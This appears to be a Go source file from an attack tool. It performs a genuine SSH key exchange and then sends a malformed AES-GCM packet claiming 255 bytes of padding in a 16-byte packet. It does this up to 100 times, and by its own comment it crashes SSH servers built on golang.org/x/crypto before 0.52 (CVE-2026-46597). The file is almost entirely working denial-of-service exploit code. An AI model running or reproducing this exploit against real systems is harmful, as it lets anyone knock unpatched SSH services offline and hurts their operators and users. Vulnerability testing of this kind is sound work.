package main

import (
	"bufio"
	"crypto/aes"
	"crypto/cipher"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"io"
	"math/big"
	"net"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

// An SSH client that goes as far as the first encrypted packet (RFC 4253, 7 and 8; RFC 8731; RFC 5647), to send one that says
// it has more padding than bytes. Libraries before golang.org/x/crypto 0.52 end their process at that (CVE-2026-46597).

func badGCM(a *attacker) {
	for i := 0; i < 100 && a.goes(); i++ {
		conn, err := a.dial(i / 8)
		if err != nil {
			continue
		}
		if sendBadGCM(conn) == nil {
			a.sent.Add(1)
		} else {
			a.refused.Add(1)
		}
		_ = conn.Close()
	}
	a.hold()
}

// Messages of the key exchange.
const (
	msgKexInit   = 20
	msgNewKeys   = 21
	msgECDHInit  = 30
	msgECDHReply = 31
)

var errUnexpected = errors.New("an unexpected message")

func sendBadGCM(conn net.Conn) error {
	_ = conn.SetDeadline(time.Now().Add(handshakeTime))
	r := bufio.NewReader(conn)
	if _, err := io.WriteString(conn, greeting); err != nil {
		return err
	}
	theirs, err := r.ReadString('\n')
	if err != nil {
		return err
	}
	ours := kexInit()
	if err := writePacket(conn, ours); err != nil {
		return err
	}
	their, err := readPacket(r, msgKexInit)
	if err != nil {
		return err
	}
	private, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	public := private.PublicKey().Bytes()
	if err := writePacket(conn, append([]byte{msgECDHInit}, ssh.Marshal(struct{ Q []byte }{public})...)); err != nil {
		return err
	}
	packet, err := readPacket(r, msgECDHReply)
	if err != nil {
		return err
	}
	var reply struct{ HostKey, Public, Signature []byte }
	if err := ssh.Unmarshal(packet[1:], &reply); err != nil {
		return err
	}
	peer, err := ecdh.X25519().NewPublicKey(reply.Public)
	if err != nil {
		return err
	}
	shared, err := private.ECDH(peer)
	if err != nil {
		return err
	}
	secret := new(big.Int).SetBytes(shared)
	hash := sha256.Sum256(ssh.Marshal(struct {
		ClientVersion, ServerVersion        string
		ClientInit, ServerInit              []byte
		HostKey, ClientPublic, ServerPublic []byte
		Secret                              *big.Int
	}{strings.TrimSpace(greeting), strings.TrimSpace(theirs), ours, their, reply.HostKey, public, reply.Public, secret}))
	if err := writePacket(conn, []byte{msgNewKeys}); err != nil {
		return err
	}
	if err := writeBadPacket(conn, derive(secret, hash, 'C', 16), derive(secret, hash, 'A', 12)); err != nil {
		return err
	}
	_, _ = io.Copy(io.Discard, r) // until the server has read it
	return nil
}

// kexInit says what this client can do (RFC 4253, 7.1).
func kexInit() []byte {
	return append([]byte{msgKexInit}, ssh.Marshal(struct {
		Cookie                                   [16]byte
		Kex, HostKeys, CiphersOut, CiphersIn     []string
		MACsOut, MACsIn, CompressOut, CompressIn []string
		LanguagesOut, LanguagesIn                []string
		Guess                                    bool
		Reserved                                 uint32
	}{
		Kex: []string{"curve25519-sha256"}, HostKeys: []string{ssh.KeyAlgoED25519, ssh.KeyAlgoRSASHA512, ssh.KeyAlgoECDSA256},
		CiphersOut: []string{ssh.CipherAES128GCM}, CiphersIn: []string{ssh.CipherAES128GCM},
		MACsOut: []string{ssh.HMACSHA256ETM}, MACsIn: []string{ssh.HMACSHA256ETM},
		CompressOut: []string{"none"}, CompressIn: []string{"none"},
	})...)
}

// derive makes a key out of the exchange's secret (RFC 4253, 7.2).
func derive(secret *big.Int, hash [32]byte, what byte, length int) []byte {
	material := ssh.Marshal(struct{ Secret *big.Int }{secret})
	material = append(material, hash[:]...)
	key := sha256.Sum256(append(append(material, what), hash[:]...))
	return key[:length]
}

// writeBadPacket sends 16 bytes, of which 255 are padding.
func writeBadPacket(w io.Writer, key, nonce []byte) error {
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		return err
	}
	plain := make([]byte, 16)
	plain[0] = 255
	length := binary.BigEndian.AppendUint32(nil, uint32(len(plain)))
	_, err = w.Write(gcm.Seal(length, nonce, plain, length))
	return err
}

// writePacket sends a packet that is not encrypted (RFC 4253, 6).
func writePacket(w io.Writer, payload []byte) error {
	const block = 8
	padding := 2*block - (5+len(payload))%block
	packet := binary.BigEndian.AppendUint32(nil, uint32(1+len(payload)+padding))
	packet = append(append(packet, byte(padding)), payload...)
	_, err := w.Write(append(packet, make([]byte, padding)...))
	return err
}

// readPacket reads a packet that is not encrypted, of the kind that is expected, and returns its payload.
func readPacket(r io.Reader, kind byte) ([]byte, error) {
	var head [5]byte
	if _, err := io.ReadFull(r, head[:]); err != nil {
		return nil, err
	}
	length, padding := binary.BigEndian.Uint32(head[:]), int(head[4])
	if length > 64<<10 || int(length) < padding+2 {
		return nil, errUnexpected
	}
	rest := make([]byte, length-1)
	if _, err := io.ReadFull(r, rest); err != nil {
		return nil, err
	}
	if rest[0] != kind {
		return nil, errUnexpected
	}
	return rest[:len(rest)-padding], nil
}
